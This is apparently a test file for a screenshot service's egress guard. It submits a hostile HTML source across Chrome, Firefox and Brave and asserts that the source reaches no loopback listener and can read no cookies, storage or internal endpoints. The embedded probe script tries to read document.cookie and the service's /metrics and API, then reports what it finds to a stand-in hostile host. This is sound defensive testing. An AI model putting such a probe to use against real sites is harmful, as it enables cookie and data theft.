import { randomBytes } from 'node:crypto';
import { expect } from 'chai';
import { localGridOptions } from '../../grid/selenium/local-grid-options.js';
import { SeleniumGrid } from '../../grid/selenium/selenium-grid.js';
import { attackPage, HostileSite } from '../support/hostile-site.js';
import { PacketListener } from '../support/packet-listener.js';
import { call, startTestApi, type TestAccount, type TestApi } from '../support/test-api.js';

/**
 * Issue #27 point 3: a source is the sender's own document, scripts included, so it is treated as the most
 * hostile page there is. It runs in an opaque origin and every request it makes goes through the egress
 * guard: the hostile page of the egress suite (every way a page has to reach loopback: fetch, beacons,
 * sockets, WebTransport, WebRTC, workers, frames, popups, teardown handlers), sent as source_html, gets no
 * packet to a listener on loopback, and its script can read neither the service (/metrics, the API) nor
 * its cookies: what it learnt it reports to the hostile site (allowed, like a site on the internet).
 */
const BROWSERS = ['chrome', 'firefox', 'brave'] as const;
/** The hostile site's address: allowlisted. The listener's 127.0.0.1 and ::1, and the API's 127.0.0.1, are not. */
const HOSTILE_ADDRESS = '127.0.0.2';
/** Popups and teardown handlers keep trying after the capture: the listener is watched this long after. */
const AFTER_CAPTURE_MS = 10_000;

interface Row {
  id: number;
  status: string;
  url: string;
  cost: number;
  error: string | null;
}

/** The hostile page, plus a script that tries the service and reports what it got to the hostile site. */
function hostileSource(site: HostileSite, listener: PacketListener, api: TestApi, tag: string): string {
  const apiOrigin = new URL(api.url).origin;
  const probe = `<script>
(function () {
  function report(what, value) { fetch(${JSON.stringify(site.origin)} + '/ran?tag=${tag}&' + what + '=' + encodeURIComponent(value), { mode: 'no-cors' }).catch(function () {}); }
  report('origin', String(self.origin));
  try { report('cookie', 'read:' + document.cookie); } catch (e) { report('cookie', 'denied'); }
  try { localStorage.setItem('x', '1'); report('storage', 'read'); } catch (e) { report('storage', 'denied'); }
  [${JSON.stringify(`${apiOrigin}/metrics`)}, ${JSON.stringify(`${api.url}/screenshot/list`)}, ${JSON.stringify(`${apiOrigin.replace('127.0.0.1', 'localhost')}/metrics`)}].forEach(function (u, i) {
    fetch(u, { credentials: 'include' }).then(function (r) { return r.text(); }).then(function (t) { report('service' + i, 'read:' + t.length); }, function () { report('service' + i, 'failed'); });
  });
})();
</script>`;
  return attackPage(listener.port, `${site.origin}/popup?x=1`).replace('<h1>hostile page</h1>', `<h1>hostile source</h1>${probe}`);
}

async function createSource(api: TestApi, account: TestAccount, body: Record<string, string>): Promise<number> {
  const res = await call(api.url, '/screenshot/create', { key: account.key, method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ delay: '2', ...body }) });
  expect(res.status, JSON.stringify(res.body)).to.equal(200);
  return Number(res.body.data[0].id);
}

async function settled(api: TestApi, ids: number[]): Promise<Map<number, Row>> {
  const deadline = Date.now() + 240_000;
  for (;;) {
    const rows: Row[] = await api.database.db('screenshots').whereIn('id', ids).select('id', 'status', 'url', 'cost', 'error');
    if (rows.every((r) => r.status !== 'processing') || Date.now() > deadline) return new Map(rows.map((r) => [Number(r.id), { ...r, id: Number(r.id) }]));
    await new Promise((resolve) => setTimeout(resolve, 300));
  }
}

function expectNothingArrived(listener: PacketListener, when: string): void {
  expect(listener.arrivals.length, `${listener.arrivals.length} arrivals at the loopback listener ${when}:\n${listener.describe()}`).to.equal(0);
}

describe('sources and the egress guard: a hostile source reaches neither loopback nor the service (issue #27)', function () {
  this.timeout(400_000);
  let embedded: TestApi;
  let distributed: TestApi;
  let selenium: TestApi;
  let grid: SeleniumGrid;
  let accounts: Map<TestApi, TestAccount>;

  before(async () => {
    const guarded = { SHOTFARM_ALLOW_PRIVATE_TARGETS: 'false', SHOTFARM_PRIVATE_TARGET_ALLOWLIST: `${HOSTILE_ADDRESS}/32` };
    embedded = await startTestApi('pglite', { ...guarded, SHOTFARM_AGENT_BROWSERS: BROWSERS.join(',') }, { agent: true });
    distributed = await startTestApi(
      'postgres',
      { ...guarded, SHOTFARM_AGENT_BROWSERS: 'chrome', NATS_URL: 'nats://127.0.0.1:4222', SHOTFARM_NATS_PREFIX: `sfsource_${randomBytes(4).toString('hex')}` },
      { agent: true },
    );
    grid = await SeleniumGrid.start(localGridOptions());
    selenium = await startTestApi('pglite', { ...guarded, SHOTFARM_DRIVER: 'selenium', SELENIUM_GRID_URL: grid.url, SHOTFARM_AGENT_BROWSERS: 'chrome' }, { agent: true });
    accounts = new Map([
      [embedded, await embedded.account(1000)],
      [distributed, await distributed.account(1000)],
      [selenium, await selenium.account(1000)],
    ]);
  });
  after(async () => {
    await embedded?.stop();
    await distributed?.stop();
    await selenium?.stop();
    await grid?.stop();
  });

  it(`the hostile page as source_html: zero packets at the listener (also ${AFTER_CAPTURE_MS / 1000} s after), self.origin "null", no cookie, no storage, no /metrics or API; embedded (chrome, firefox, brave), distributed (chrome) and through a Selenium Grid (chrome)`, async () => {
    const listener = await PacketListener.start();
    const site = await HostileSite.start(HOSTILE_ADDRESS, listener.port);
    try {
      const run = randomBytes(3).toString('hex');
      const where: [TestApi, string, string][] = [
        ...BROWSERS.map((b): [TestApi, string, string] => [embedded, b, `${b}-${run}`]),
        [distributed, 'chrome', `distributed-${run}`],
        [selenium, 'chrome', `selenium-${run}`],
      ];
      const ids = await Promise.all(where.map(([api, browser, tag]) => createSource(api, accounts.get(api) as TestAccount, { source_html: hostileSource(site, listener, api, tag), browser })));
      for (const [i, [api, browser, tag]] of where.entries()) {
        const row = (await settled(api, [ids[i] as number])).get(ids[i] as number);
        expect(row?.status, `${tag}: ${JSON.stringify(row)}`).to.equal('finished');
        expect(row?.url).to.match(/^source:html\/[0-9a-f]{64}$/);
        const reported = (what: string, value: string): number => site.hits.get(`/ran?tag=${tag}&${what}=${encodeURIComponent(value)}`) ?? 0;
        expect(reported('origin', 'null'), `${tag} (${browser}): the source's script ran in an opaque origin\n${[...site.hits.keys()].join('\n')}`).to.equal(1);
        expect(reported('cookie', 'denied'), `${tag}: document.cookie`).to.equal(1);
        expect(reported('storage', 'denied'), `${tag}: localStorage`).to.equal(1);
        for (const service of ['service0', 'service1', 'service2']) expect(reported(service, 'failed'), `${tag}: ${service} (the service's /metrics and API)`).to.equal(1);
      }
      expectNothingArrived(listener, 'when the captures ended');
      await new Promise((resolve) => setTimeout(resolve, AFTER_CAPTURE_MS));
      expectNothingArrived(listener, `${AFTER_CAPTURE_MS / 1000} s after the captures`);
    } finally {
      await site.close();
      await listener.close();
    }
  });

  it("distributed: a source the NATS server's max_payload (1 MiB by default) cannot carry is a 503 and a record ended not_queued at cost 0, never a 500", async () => {
    const account = accounts.get(distributed) as TestAccount;
    const res = await call(distributed.url, '/screenshot/create', {
      key: account.key,
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ source_html: `<p>${'z'.repeat(1_500_000)}</p>` }),
    });
    expect(res.status, JSON.stringify(res.body).slice(0, 300)).to.equal(503);
    expect(res.body.success).to.equal(false);
    const [row] = await distributed.database.db('screenshots').where({ company_id: account.companyId }).orderBy('id', 'desc').limit(1).select('status', 'cost', 'error_cause');
    expect(row).to.deep.include({ status: 'error', cost: 0, error_cause: 'not_queued' });
  });

  it('a base_url on loopback does not pass the guard: the record ends error (Blocked, cost 0) and nothing arrives there', async () => {
    const listener = await PacketListener.start();
    try {
      const source_html = '<!doctype html><img src="logo.png"><link rel="stylesheet" href="style.css">';
      const ids = await Promise.all(
        BROWSERS.map((browser) => createSource(embedded, accounts.get(embedded) as TestAccount, { source_html, base_url: `http://127.0.0.1:${listener.port}/`, browser, delay: '0' })),
      );
      const rows = await settled(embedded, ids);
      for (const id of ids) {
        const row = rows.get(id);
        expect(row?.status, JSON.stringify(row)).to.equal('error');
        expect(row?.error).to.match(/^Blocked: 127\.0\.0\.1 resolves to 127\.0\.0\.1, a loopback address/);
        expect(row?.cost).to.equal(0);
      }
      expectNothingArrived(listener, 'from the base_url');
    } finally {
      await listener.close();
    }
  });
});
